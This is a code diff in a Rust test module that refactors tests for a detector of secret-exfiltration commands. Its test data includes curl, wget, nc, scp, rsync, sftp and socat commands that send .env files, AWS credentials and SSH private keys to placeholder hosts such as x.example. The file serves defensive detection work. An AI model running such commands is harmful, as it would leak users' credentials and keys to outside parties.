@@ -349,35 +349,35 @@ fn sends_secret_through(cmd: &Command) -> bool {
 mod tests {
     use super::*;
 
-    fn cmd(program: &str, args: &[&str]) -> Command {
-        Command {
-            program: program.into(),
-            path: program.into(),
-            args: args.iter().map(|s| s.to_string()).collect(),
-            ..Command::default()
-        }
-    }
-
     #[test]
     fn curl_uploads() {
         assert_eq!(
-            upload_files(&cmd("curl", &["-F", "f=@.env;type=text/plain", "u"])),
+            upload_files(&Command::new(
+                "curl",
+                &["-F", "f=@.env;type=text/plain", "u"]
+            )),
             vec![".env"]
         );
         assert_eq!(
-            upload_files(&cmd("curl", &["-sSd@~/.aws/credentials", "u"])),
+            upload_files(&Command::new("curl", &["-sSd@~/.aws/credentials", "u"])),
             vec!["~/.aws/credentials"]
         );
-        assert_eq!(upload_files(&cmd("curl", &["-sT", "-", "u"])), vec!["-"]);
         assert_eq!(
-            upload_files(&cmd("curl", &["--data-urlencode", "k@secret.key", "u"])),
+            upload_files(&Command::new("curl", &["-sT", "-", "u"])),
+            vec!["-"]
+        );
+        assert_eq!(
+            upload_files(&Command::new(
+                "curl",
+                &["--data-urlencode", "k@secret.key", "u"]
+            )),
             vec!["secret.key"]
         );
         assert_eq!(
-            upload_files(&cmd("wget", &["--post-file", ".env", "u"])),
+            upload_files(&Command::new("wget", &["--post-file", ".env", "u"])),
             vec![".env"]
         );
-        assert!(upload_files(&cmd("curl", &["-o", ".env", "u"])).is_empty());
+        assert!(upload_files(&Command::new("curl", &["-o", ".env", "u"])).is_empty());
     }
 
     #[test]
@@ -406,11 +406,11 @@ mod tests {
 
     #[test]
     fn secret_pipes() {
-        let mut nc = cmd("nc", &["x.example", "9000"]);
-        nc.upstream = vec![cmd("cat", &["~/.aws/credentials"])];
+        let mut nc = Command::new("nc", &["x.example", "9000"]);
+        nc.upstream = vec![Command::new("cat", &["~/.aws/credentials"])];
         assert!(secret_piped_to_upload(&nc));
-        let mut curl = cmd("curl", &["-d", "@-", "u"]);
-        curl.upstream = vec![cmd("cat", &["~/.ssh/id_ed25519.pub"])];
+        let mut curl = Command::new("curl", &["-d", "@-", "u"]);
+        curl.upstream = vec![Command::new("cat", &["~/.ssh/id_ed25519.pub"])];
         assert!(!secret_piped_to_upload(&curl));
     }
 
@@ -430,15 +430,15 @@ mod tests {
             assert!(!is_remote(w), "{w}");
         }
         assert_eq!(
-            sent_files(&cmd(
+            sent_files(&Command::new(
                 "scp",
                 &["-i", "~/.ssh/k", "-P", "22", "a", "hb:c", "host:/x"]
             )),
             vec!["a"]
         );
-        assert!(sent_files(&cmd("scp", &["host:/etc/hosts", "."])).is_empty());
+        assert!(sent_files(&Command::new("scp", &["host:/etc/hosts", "."])).is_empty());
         assert_eq!(
-            sent_files(&cmd(
+            sent_files(&Command::new(
                 "rsync",
                 &["-e", "ssh -i ~/.ssh/k", "~/.ssh/", "host:x"]
             )),
@@ -452,7 +452,7 @@ mod tests {
             sftp_puts("cd /tmp\n-put -p ~/.ssh/id_rsa k\nget x\n"),
             vec!["~/.ssh/id_rsa"]
         );
-        let mut sftp = cmd("sftp", &["h"]);
+        let mut sftp = Command::new("sftp", &["h"]);
         sftp.stdin = Some("put ~/.aws/credentials\n".into());
         assert!(copies_secret_out(&sftp));
         sftp.stdin = Some("get ~/.aws/credentials\n".into());
@@ -461,15 +461,15 @@ mod tests {
 
     #[test]
     fn socat_addresses() {
-        assert!(socat_sends_secret(&cmd(
+        assert!(socat_sends_secret(&Command::new(
             "socat",
             &["-u", "FILE:~/.ssh/id_rsa,rdonly", "TCP:x:1"]
         )));
-        assert!(!socat_sends_secret(&cmd(
+        assert!(!socat_sends_secret(&Command::new(
             "socat",
             &["FILE:notes.txt", "TCP:x:1"]
         )));
-        assert!(!socat_sends_secret(&cmd(
+        assert!(!socat_sends_secret(&Command::new(
             "socat",
             &["STDIO", "FILE:~/.ssh/id_rsa"]
         )));
